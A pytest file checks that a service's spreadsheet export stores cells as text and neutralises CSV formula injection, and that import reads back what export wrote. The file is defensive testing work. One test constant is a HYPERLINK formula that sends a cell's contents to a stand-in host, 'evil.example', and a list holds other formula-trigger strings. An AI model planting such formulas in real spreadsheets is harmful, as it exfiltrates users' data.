"""Spreadsheet cells: text stays text (no formula injection), files read back what was written."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from services.common.spreadsheet import from_csv_text, to_csv_text
from services.organization.adapters.spreadsheet import SheetError, parse_sheet, sheet_bytes
from services.organization.domain.sheet import COLUMNS, MAX_DATA_ROWS

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
TRICKY = [INJECTION, "+8613912345678", "-1", "@SUM(A1)", "\tx", "\rx", "'=1", "''=1", "'abc", "''", "'", "普通名称", ""]


def _rows(names: list[str]) -> list[dict[str, str]]:
    return [dict.fromkeys(COLUMNS, "") | {"record": "unit", "ref": f"R{i}", "display_name": n}
            for i, n in enumerate(names)]


def test_xlsx_stores_every_cell_as_text_never_a_formula():
    data = sheet_bytes(_rows([INJECTION, "+1", "-2", "@x"]), ".xlsx")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells if cell.value)
    assert sheet.cell(row=2, column=COLUMNS.index("display_name") + 1).value == INJECTION


@pytest.mark.parametrize("kind", [".csv", ".xlsx"])
def test_import_reads_back_exactly_what_export_wrote(kind):
    _, rows = parse_sheet(sheet_bytes(_rows(TRICKY), kind), kind)
    # What the import uses (Row.get) is the value as the export had it; surrounding blanks never count.
    assert [r.get("display_name") for r in rows] == [t.strip() for t in TRICKY]


def test_csv_neutralises_formulas_with_one_apostrophe():
    data = sheet_bytes(_rows([INJECTION]), ".csv").decode("utf-8-sig")
    assert "'=HYPERLINK" in data
    for text in TRICKY:
        guarded = to_csv_text(text)
        assert guarded[:1] not in ("=", "+", "-", "@", "\t", "\r")
        assert from_csv_text(guarded) == text


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030"])
def test_csv_in_the_encodings_excel_saves(encoding):
    text = "record,ref,parent_ref,type,display_name\r\nunit,T1,,TOWNSHIP,彭镇\r\n"
    header, rows = parse_sheet(text.encode(encoding), ".csv")
    assert header[:2] == ["record", "ref"] and rows[0].cells["display_name"] == "彭镇"


def test_bytes_that_are_no_sheet_are_refused_with_a_reason():
    with pytest.raises(SheetError):
        parse_sheet(b"\xff\xfe\x00garbage\x81", ".csv")
    with pytest.raises(SheetError):
        parse_sheet(b"PK not really a zip", ".xlsx")


def test_a_control_character_in_old_data_does_not_stop_an_export():
    data = sheet_bytes(_rows(["村\x07名"]), ".xlsx")
    _, rows = parse_sheet(data, ".xlsx")
    assert rows[0].cells["display_name"] == "村\ufffd名"


def test_xlsx_numbers_are_marked_as_numbers():
    wb = Workbook()
    wb.active.append(["record", "id_card_number"])
    wb.active.append(["member", 610222198001011234])
    out = io.BytesIO()
    wb.save(out)
    _, rows = parse_sheet(out.getvalue(), ".xlsx")
    assert rows[0].numeric == frozenset({"id_card_number"})


def test_xlsx_blank_rows_and_cells_beyond_the_header_are_skipped_and_too_many_rows_are_refused():
    wb = Workbook()
    wb.active.append(["record", "id_card_number"])
    wb.active["A5"] = "member"
    wb.active["B5"] = 610222198001011234
    wb.active["A900000"] = None  # a formatted row far down: openpyxl fills the gap with empty rows
    wb.active["A900000"].number_format = "@"
    wb.active["XFD7"] = "stray"  # right of the header: no column, and rows are not read 16,384 wide
    out = io.BytesIO()
    wb.save(out)
    _, rows = parse_sheet(out.getvalue(), ".xlsx")
    assert [(r.number, r.numeric) for r in rows] == [(5, frozenset({"id_card_number"}))]
    wb = Workbook(write_only=True)
    ws = wb.create_sheet()
    for _ in range(MAX_DATA_ROWS + 2):
        ws.append(["unit"])
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(SheetError) as refused:
        parse_sheet(out.getvalue(), ".xlsx")
    assert refused.value.reason == "TOO_MANY_ROWS"


@pytest.mark.parametrize("body", ["type,name\nTOWNSHIP," + "x" * 200_000 + "\n",
                                  'type,name\nTOWNSHIP,"' + "引号\n" * 50_000 + '"\n'])
def test_a_csv_the_csv_module_cannot_read_is_an_unreadable_sheet_naming_its_line(body):
    from services.common.spreadsheet import UnreadableSheet, read_csv

    with pytest.raises(UnreadableSheet) as info:  # it was the csv module's own error: INTERNAL on import
        read_csv(body.encode("utf-8"), 100)
    assert "第2行" in str(info.value) and "line 2" in str(info.value)
    with pytest.raises(SheetError):
        parse_sheet(body.encode("utf-8"), ".csv")
